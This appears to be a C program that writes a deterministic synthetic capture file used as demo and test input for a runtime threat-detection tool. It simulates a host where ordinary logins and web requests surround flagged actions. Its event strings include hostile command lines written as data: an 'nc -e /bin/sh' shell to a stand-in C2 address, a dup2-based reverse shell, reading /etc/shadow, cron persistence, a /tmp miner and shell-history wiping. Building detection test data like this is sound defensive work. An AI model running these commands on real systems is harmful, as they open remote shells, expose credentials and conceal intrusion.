/* mkdemo.c — writes rules/demo.scap, the bundled demo capture that scripts/run replays when live
 * mode is unavailable (and tests/cli/demo_replay.sh checks).
 *
 * Everything in it is synthetic and fixed: a small host (systemd, sshd, an interactive bash of
 * user 1000 on a tty, a docker nginx container, a kubernetes gunicorn pod) written as the
 * capture's process and fd lists, then a short story of events in current exit layouts (one
 * per syscall, no enter events), timestamps and ids chosen here, no randomness and nothing read
 * from the machine that runs it: two runs give byte-identical files (plain, not gzip, so zlib
 * versions cannot change the bytes). Benign activity (logins, ls, git, web requests) frames
 * actions that default rules flag:
 *   cat /etc/shadow as root            Read sensitive file untrusted
 *   a shell spawned under gunicorn     Run shell untrusted
 *   docker exec -it nginx bash         Terminal shell in container
 *   nc -e /bin/sh ...                  Netcat Remote Code Execution
 *   socket dup2'ed onto stdin/stdout   Redirect STDOUT or STDIN to Network Connection
 *   tee /etc/cron.d/backup             Write below etc
 *   bash_history truncated             Delete or Truncate Shell History
 *   /tmp/.cache/kworkerd runs          Execution from Temporary Directory
 * Written with the runtime's own capture writer (runtime/scapw.c).
 * Usage: mkdemo OUT.scap */
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "events.h"
#include "evt.h"
#include "ptypes.h"
#include "scapw.h"
#define EVV_PROG "mkdemo"
#include "evview.h"

static struct fc_scapw *W;
static uint64_t now_ts = 1735689600000000000ull; /* 2025-01-01T00:00:00Z */


/* ---- one event: parameters set by name (tests/tools/evview.h), then written ---- */

static struct evview E;

static void ev_begin(uint16_t type, int64_t tid)
{
	now_ts += 250000; /* 4,000 events/s */
	evv_begin(&E, type, now_ts, tid);
}

static void p_raw(const char *name, const void *p, size_t n)
{
	evv_raw(&E, name, p, n);
}

static void p_int(const char *name, int64_t v)
{
	evv_int(&E, name, v);
}

static void p_str(const char *name, const char *s)
{
	evv_str(&E, name, s);
}

static void p_tuple4(const char *name, const uint8_t src[4], uint16_t sp, const uint8_t dst[4], uint16_t dp)
{
	evv_tuple4(&E, name, src, sp, dst, dp);
}

static void p_sockaddr4(const char *name, const uint8_t a[4], uint16_t port)
{
	evv_sockaddr4(&E, name, a, port);
}

static void ev_end(void)
{
	if (fc_scapw_event(W, &E.v, 0) != 0)
		die("%s", fc_scapw_error(W));
}

/* ---- the simulated host ---- */

#define O_RDONLY_ 0x1u
#define O_WRONLY_ 0x2u
#define O_CREAT_ 0x4u
#define O_APPEND_ 0x8u
#define O_TRUNC_ 0x100u
#define O_CLOEXEC_ 0x1000u
#define O_F_CREATED_ 0x4000u
#define AT_FDCWD_ (-100)

#define CTR_NGINX "3f4e9a1b2c5d6e7f80912a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f"
#define CTR_API "a9b8c7d6e5f40312a9b8c7d6e5f40312a9b8c7d6e5f40312a9b8c7d6e5f40312"
#define CG_USER "/user.slice/user-1000.slice/session-3.scope"
#define CG_NGINX "/system.slice/docker-" CTR_NGINX ".scope"
#define CG_API                                                                                     \
	"/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod6f1c2d3e_4a5b_6c7d_8e9f_0a1b2c3d4e5f.slice/" \
	"cri-containerd-" CTR_API ".scope"

static const char ENV_USER[] = "SHELL=/bin/bash\0HOME=/home/alice\0LOGNAME=alice\0USER=alice\0"
			       "TERM=xterm-256color\0PATH=/usr/local/bin:/usr/bin:/bin\0LANG=C.UTF-8\0";
static const char ENV_CTR[] = "PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\0HOSTNAME=web\0";

struct proc {
	int64_t tid, pid, ptid, vtid, vpid;
	const char *comm, *exe, *exepath, *cwd, *cgroup;
	char args[256];
	size_t alen;
	uint32_t uid, gid, loginuid, tty;
	int nextfd;
};

static struct proc P_systemd, P_sshd, P_bash, P_shim_nginx, P_nginx, P_shim_api, P_gunicorn;
static int64_t next_pid = 4000;

static void setp(struct proc *p, int64_t tid, int64_t ptid, int64_t vtid, const char *comm, const char *exe,
		 const char *args, const char *cwd, uint32_t uid, const char *cg)
{
	memset(p, 0, sizeof *p);
	p->tid = p->pid = tid;
	p->ptid = ptid;
	p->vtid = p->vpid = vtid;
	p->comm = comm;
	p->exe = exe;
	p->exepath = exe;
	p->alen = evv_nul_list(args, ' ', p->args, sizeof p->args);
	p->cwd = cwd;
	p->uid = p->gid = uid;
	p->loginuid = UINT32_MAX;
	p->cgroup = cg;
	p->nextfd = 3;
}

static char cgb[1024];
static size_t cgroups_of(const struct proc *p)
{
	static const char *ss[] = {"cpuset", "cpu", "cpuacct", "memory", "pids"};
	size_t l = 0;
	for (size_t k = 0; k < 5; k++)
		l += (size_t)snprintf(cgb + l, sizeof cgb - l, "%s=%s", ss[k], p->cgroup) + 1;
	return l;
}

static void write_proc(const struct proc *p, const char *env, size_t envlen)
{
	struct fc_cap_proc c;
	memset(&c, 0, sizeof c);
	c.version = 9;
	c.has = 0x1ffff;
	c.tid = (uint64_t)p->tid;
	c.pid = (uint64_t)p->pid;
	c.ptid = (uint64_t)p->ptid;
	c.sid = c.vpgid = c.pgid = p->pid;
	c.comm = evv_cs(p->comm, strlen(p->comm));
	c.exe = evv_cs(p->exe, strlen(p->exe));
	c.exepath = evv_cs(p->exepath, strlen(p->exepath));
	c.args = evv_cs(p->args, p->alen);
	c.cwd = evv_cs(p->cwd, strlen(p->cwd));
	c.fdlimit = 1024;
	c.uid = p->uid;
	c.gid = p->gid;
	c.vmsize_kb = 20000;
	c.vmrss_kb = 8000;
	c.env = evv_cs(env, envlen);
	c.vtid = p->vtid;
	c.vpid = p->vpid;
	size_t cgl = cgroups_of(p);
	c.cgroups = evv_cs(cgb, cgl);
	c.root = evv_cs("/", 1);
	c.tty = p->tty;
	c.loginuid = p->loginuid;
	c.cap_effective = c.cap_permitted = p->uid == 0 ? 0x1ffffffffffull : 0;
	c.pidns_init_start_ts = 1735680000000000000ull;
	if (fc_scapw_proc(W, &c) != 0)
		die("%s", fc_scapw_error(W));
}

static void write_fd(const struct proc *p, int fd, uint8_t type, const char *name, uint16_t port)
{
	struct fc_cap_fd f = evv_fd_entry(p->tid, fd, type, 5000 + (uint64_t)fd, name);
	if (type == FC_FD_IPV4_SERVSOCK) {
		f.l4proto = 2; /* TCP */
		f.sport = port;
	}
	if (fc_scapw_fd(W, &f) != 0)
		die("%s", fc_scapw_error(W));
}

/* ---- syscalls ---- */

static int e_openat(struct proc *p, const char *path, uint32_t flags)
{
	int fd = p->nextfd++;
	ev_begin(FC_PPME_SYSCALL_OPENAT_2_X, p->tid);
	p_int("fd", fd);
	p_int("dirfd", AT_FDCWD_);
	p_str("name", path);
	p_int("flags", flags);
	p_int("mode", flags & O_CREAT_ ? 0644 : 0);
	p_int("dev", 0x803);
	p_int("ino", 100000 + fd);
	ev_end();
	return fd;
}

static void e_close(struct proc *p, int fd)
{
	ev_begin(FC_PPME_SYSCALL_CLOSE_X, p->tid);
	p_int("res", 0);
	p_int("fd", fd);
	ev_end();
	if (fd == p->nextfd - 1)
		p->nextfd--;
}

static void e_open_close(struct proc *p, const char *path, uint32_t flags)
{
	e_close(p, e_openat(p, path, flags));
}

static int e_socket(struct proc *p)
{
	int fd = p->nextfd++;
	ev_begin(FC_PPME_SOCKET_SOCKET_X, p->tid);
	p_int("fd", fd);
	p_int("domain", 2);
	p_int("type", 1);
	p_int("proto", 6);
	p_int("flags", 0);
	ev_end();
	return fd;
}

static const uint8_t IP_HOST[4] = {10, 0, 1, 5}, IP_C2[4] = {198, 51, 100, 7}, IP_CLIENT[4] = {10, 0, 8, 14},
		     IP_NGINX[4] = {172, 17, 0, 2}, IP_API[4] = {10, 244, 1, 17}, IP_DB[4] = {10, 0, 3, 20};

static void e_connect(struct proc *p, int fd, const uint8_t src[4], uint16_t sport, const uint8_t dst[4], uint16_t port)
{
	ev_begin(FC_PPME_SOCKET_CONNECT_X, p->tid);
	p_int("res", 0);
	p_tuple4("tuple", src, sport, dst, port);
	p_int("fd", fd);
	p_sockaddr4("addr", dst, port);
	ev_end();
}

static int e_accept4(struct proc *p, const uint8_t cli[4], uint16_t cport, const uint8_t srv[4], uint16_t port)
{
	int fd = p->nextfd++;
	ev_begin(FC_PPME_SOCKET_ACCEPT4_6_X, p->tid);
	p_int("fd", fd);
	p_tuple4("tuple", cli, cport, srv, port);
	p_int("queuepct", 0);
	p_int("queuelen", 0);
	p_int("queuemax", 511);
	p_int("flags", 0x800);
	ev_end();
	return fd;
}

static void e_dup2(struct proc *p, int oldfd, int newfd)
{
	ev_begin(FC_PPME_SYSCALL_DUP2_X, p->tid);
	p_int("res", newfd);
	p_int("oldfd", oldfd);
	p_int("newfd", newfd);
	ev_end();
}

static void e_unlinkat(struct proc *p, const char *path)
{
	ev_begin(FC_PPME_SYSCALL_UNLINKAT_2_X, p->tid);
	p_int("res", 0);
	p_int("dirfd", AT_FDCWD_);
	p_str("name", path);
	p_int("flags", 0);
	ev_end();
}

static void e_procexit(struct proc *p)
{
	ev_begin(FC_PPME_PROCEXIT_1_E, p->tid);
	p_int("status", 0);
	p_int("ret", 0);
	p_int("sig", 0);
	p_int("core", 0);
	p_int("reaper_tid", 0);
	ev_end();
}

static void clone_params(const struct proc *who, int64_t res, const struct proc *c, uint32_t flags)
{
	size_t cgl = cgroups_of(who);
	p_int("res", res);
	p_str("exe", who->exe);
	p_raw("args", who->args, who->alen);
	p_int("tid", c->tid);
	p_int("pid", c->pid);
	p_int("ptid", c->ptid);
	p_str("cwd", "");
	p_int("fdlimit", 1024);
	p_int("pgft_maj", 0);
	p_int("pgft_min", 150);
	p_int("vm_size", 9000);
	p_int("vm_rss", 4000);
	p_int("vm_swap", 0);
	p_str("comm", who->comm);
	p_raw("cgroups", cgb, cgl);
	p_int("flags", flags);
	p_int("uid", who->uid);
	p_int("gid", who->gid);
	p_int("vtid", c->vtid);
	p_int("vpid", c->vpid);
	p_int("pidns_init_start_ts", 0);
}

/* fork of PARENT: the parent's clone exit, then the child's */
static struct proc e_fork(struct proc *parent)
{
	struct proc c = *parent;
	c.tid = c.pid = next_pid++;
	c.ptid = parent->tid;
	bool ctr = parent->vtid != parent->tid;
	c.vtid = c.vpid = ctr ? 100 + (next_pid % 100) : c.tid;
	uint32_t flags = 0x1800000u | (ctr ? 0x20000000u : 0);
	ev_begin(FC_PPME_SYSCALL_CLONE_20_X, parent->tid);
	clone_params(parent, c.vtid, &c, flags);
	ev_end();
	ev_begin(FC_PPME_SYSCALL_CLONE_20_X, c.tid);
	clone_params(parent, 0, &c, flags);
	ev_end();
	return c;
}

static void e_execve(struct proc *p, const char *comm, const char *path, const char *args, const char *env,
		     size_t envlen)
{
	p->alen = evv_nul_list(args, ' ', p->args, sizeof p->args);
	size_t cgl = cgroups_of(p);
	ev_begin(FC_PPME_SYSCALL_EXECVE_19_X, p->tid);
	p_int("res", 0);
	p_str("exe", comm);
	p_raw("args", p->args, p->alen);
	p_int("tid", p->tid);
	p_int("pid", p->pid);
	p_int("ptid", p->ptid);
	p_str("cwd", "");
	p_int("fdlimit", 1024);
	p_int("pgft_maj", 0);
	p_int("pgft_min", 80);
	p_int("vm_size", 2400);
	p_int("vm_rss", 900);
	p_int("vm_swap", 0);
	p_str("comm", comm);
	p_raw("cgroups", cgb, cgl);
	p_raw("env", env, envlen);
	p_int("tty", p->tty);
	p_int("vpgid", p->vpid);
	p_int("loginuid", p->loginuid);
	p_int("flags", 0);
	p_int("cap_inheritable", 0);
	p_int("cap_permitted", p->uid == 0 ? 0x1ffffffffffll : 0);
	p_int("cap_effective", p->uid == 0 ? 0x1ffffffffffll : 0);
	p_int("exe_ino", 4242);
	p_int("exe_ino_ctime", 1730000000000000000ll);
	p_int("exe_ino_mtime", 1730000000000000000ll);
	p_int("uid", p->uid);
	p_str("trusted_exepath", path);
	p_int("pgid", p->pid);
	p_int("gid", p->gid);
	p_str("filename", path);
	ev_end();
	p->comm = comm;
	p->exe = comm;
	p->exepath = path;
	p->nextfd = 3;
}

static void e_ldso(struct proc *c)
{
	e_open_close(c, "/etc/ld.so.cache", O_RDONLY_ | O_CLOEXEC_);
	e_open_close(c, "/lib/x86_64-linux-gnu/libc.so.6", O_RDONLY_ | O_CLOEXEC_);
}

/* a command run by the interactive user: fork, exec, libraries, FILES read, exit */
static void run_cmd(struct proc *parent, const char *comm, const char *path, const char *args,
		    const char *const *files, size_t nfiles)
{
	struct proc c = e_fork(parent);
	e_execve(&c, comm, path, args, ENV_USER, sizeof ENV_USER - 1);
	e_ldso(&c);
	for (size_t i = 0; i < nfiles; i++)
		e_open_close(&c, files[i], O_RDONLY_);
	e_procexit(&c);
}

static void web_requests(int n)
{
	for (int i = 0; i < n; i++) {
		int a = e_accept4(&P_nginx, IP_CLIENT, (uint16_t)(40000 + i), IP_NGINX, 80);
		e_open_close(&P_nginx, i % 2 ? "/usr/share/nginx/html/index.html" : "/usr/share/nginx/html/app.js",
			     O_RDONLY_);
		e_close(&P_nginx, a);
		int b = e_accept4(&P_gunicorn, IP_CLIENT, (uint16_t)(41000 + i), IP_API, 8000);
		e_open_close(&P_gunicorn, "/app/shop/templates/cart.html", O_RDONLY_);
		int s = e_socket(&P_gunicorn);
		e_connect(&P_gunicorn, s, IP_API, (uint16_t)(50000 + i), IP_DB, 5432);
		e_close(&P_gunicorn, s);
		e_close(&P_gunicorn, b);
	}
}

static void story(void)
{
	static const char *const readme[] = {"/home/alice/src/shop/README.md"};
	static const char *const gitf[] = {"/home/alice/src/shop/.git/HEAD", "/home/alice/src/shop/.git/index"};
	web_requests(3);
	run_cmd(&P_bash, "ls", "/usr/bin/ls", "ls -la", NULL, 0);
	run_cmd(&P_bash, "git", "/usr/bin/git", "git status", gitf, 2);
	run_cmd(&P_bash, "less", "/usr/bin/less", "less README.md", readme, 1);
	web_requests(2);

	/* sudo cat /etc/shadow: cat is not a program that reads shadow */
	struct proc c = e_fork(&P_bash);
	c.uid = c.gid = 0;
	e_execve(&c, "cat", "/usr/bin/cat", "cat /etc/shadow", ENV_USER, sizeof ENV_USER - 1);
	e_ldso(&c);
	e_open_close(&c, "/etc/shadow", O_RDONLY_);
	e_procexit(&c);
	web_requests(2);

	/* a web shell: sh under gunicorn, in the pod */
	c = e_fork(&P_gunicorn);
	e_execve(&c, "sh", "/bin/dash", "sh -c id", ENV_CTR, sizeof ENV_CTR - 1);
	e_open_close(&c, "/etc/passwd", O_RDONLY_);
	e_procexit(&c);

	/* docker exec -it nginx bash: a terminal shell in the container */
	c = P_nginx;
	c.tid = c.pid = next_pid++;
	c.ptid = P_shim_nginx.tid;
	c.vtid = c.vpid = 57;
	c.tty = 34817;
	ev_begin(FC_PPME_SYSCALL_CLONE_20_X, c.tid);
	clone_params(&P_shim_nginx, 0, &c, 0x20000000u | 0x1800000u);
	ev_end();
	e_execve(&c, "bash", "/usr/bin/bash", "bash", ENV_CTR, sizeof ENV_CTR - 1);
	e_ldso(&c);
	e_open_close(&c, "/root/.bashrc", O_RDONLY_);
	e_procexit(&c);
	web_requests(1);

	/* nc -e /bin/sh to a remote host */
	c = e_fork(&P_bash);
	e_execve(&c, "nc", "/usr/bin/nc.traditional", "nc -e /bin/sh 198.51.100.7 4444", ENV_USER, sizeof ENV_USER - 1);
	e_ldso(&c);
	int s = e_socket(&c);
	e_connect(&c, s, IP_HOST, 45001, IP_C2, 4444);
	e_procexit(&c);

	/* reverse shell: a connected socket dup'ed onto stdio, then bash -i */
	c = e_fork(&P_bash);
	s = e_socket(&c);
	e_connect(&c, s, IP_HOST, 45002, IP_C2, 4444);
	for (int fd = 0; fd < 3; fd++)
		e_dup2(&c, s, fd);
	e_execve(&c, "bash", "/usr/bin/bash", "bash -i", ENV_USER, sizeof ENV_USER - 1);
	e_procexit(&c);

	/* persistence: a file written below /etc */
	c = e_fork(&P_bash);
	c.uid = c.gid = 0;
	e_execve(&c, "tee", "/usr/bin/tee", "tee /etc/cron.d/backup", ENV_USER, sizeof ENV_USER - 1);
	e_ldso(&c);
	e_open_close(&c, "/etc/cron.d/backup", O_WRONLY_ | O_CREAT_ | O_TRUNC_ | O_F_CREATED_);
	e_procexit(&c);
	web_requests(2);

	/* a dropper run from /tmp, talking to a mining pool */
	c = e_fork(&P_bash);
	e_execve(&c, "kworkerd", "/tmp/.cache/kworkerd", "kworkerd -o stratum+tcp://pool.example:3333", ENV_USER,
		 sizeof ENV_USER - 1);
	s = e_socket(&c);
	e_connect(&c, s, IP_HOST, 45003, IP_C2, 3333);
	e_close(&c, s);
	e_procexit(&c);

	/* covering tracks: the shell history truncated */
	e_open_close(&P_bash, "/home/alice/.bash_history", O_WRONLY_ | O_CREAT_ | O_TRUNC_);
	e_unlinkat(&P_bash, "/home/alice/.bash_history");
	web_requests(2);
}

int main(int argc, char **argv)
{
	if (argc != 2)
		die("usage: mkdemo OUT.scap");
	char err[512];
	if (fc_scapw_open(argv[1], false, &W, err, sizeof err) != 0)
		die("%s", err);
	struct fc_cap_machine mi;
	memset(&mi, 0, sizeof mi);
	mi.present = true;
	mi.num_cpus = 2;
	mi.memory_size_bytes = 4ull << 30;
	mi.max_pid = 4194304;
	snprintf(mi.hostname, sizeof mi.hostname, "demo-host");
	mi.boot_ts_epoch = 1735600000000000000ull;
	if (fc_scapw_machine(W, &mi) != 0)
		die("%s", fc_scapw_error(W));

	setp(&P_systemd, 1, 0, 1, "systemd", "/usr/lib/systemd/systemd", "--system", "/", 0, "/init.scope");
	setp(&P_sshd, 700, 1, 700, "sshd", "/usr/sbin/sshd", "-D", "/", 0, "/system.slice/ssh.service");
	setp(&P_bash, 1202, 700, 1202, "bash", "/usr/bin/bash", "-bash", "/home/alice/src/shop", 1000, CG_USER);
	P_bash.tty = 34816;
	P_bash.loginuid = 1000;
	setp(&P_shim_nginx, 2000, 1, 2000, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
	     "-namespace moby -id " CTR_NGINX, "/", 0, "/system.slice/containerd.service");
	setp(&P_nginx, 2001, 2000, 1, "nginx", "/usr/sbin/nginx", "-g daemon-off", "/", 0, CG_NGINX);
	setp(&P_shim_api, 2100, 1, 2100, "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
	     "-namespace k8s.io -id " CTR_API, "/", 0, "/system.slice/containerd.service");
	setp(&P_gunicorn, 2101, 2100, 1, "gunicorn", "/usr/local/bin/python3.11",
	     "/usr/local/bin/gunicorn -b 0.0.0.0:8000 shop.wsgi", "/app", 1000, CG_API);
	P_nginx.nextfd = P_gunicorn.nextfd = 4; /* fd 3: the listener */

	const struct proc *ps[] = {&P_systemd, &P_sshd, &P_bash, &P_shim_nginx, &P_nginx, &P_shim_api, &P_gunicorn};
	for (size_t i = 0; i < sizeof ps / sizeof ps[0]; i++) {
		const struct proc *p = ps[i];
		if (p == &P_bash)
			write_proc(p, ENV_USER, sizeof ENV_USER - 1);
		else
			write_proc(p, ENV_CTR, sizeof ENV_CTR - 1);
	}
	for (size_t i = 0; i < sizeof ps / sizeof ps[0]; i++) {
		const struct proc *p = ps[i];
		for (int fd = 0; fd < 3; fd++)
			write_fd(p, fd, FC_FD_FILE_V2, p->tty ? "/dev/pts/0" : "/dev/null", 0);
	}
	write_fd(&P_sshd, 3, FC_FD_IPV4_SERVSOCK, "", 22);
	write_fd(&P_nginx, 3, FC_FD_IPV4_SERVSOCK, "", 80);
	write_fd(&P_gunicorn, 3, FC_FD_IPV4_SERVSOCK, "", 8000);

	story();
	const struct fc_scapw_stats *st = fc_scapw_stats(W);
	unsigned long long nev = st->events, np = st->procs, nfd = st->fds;
	if (fc_scapw_close(W, err, sizeof err) != 0)
		die("%s", err);
	printf("mkdemo: %s: %llu processes, %llu fds, %llu events\n", argv[1], np, nfd, nev);
	return 0;
}
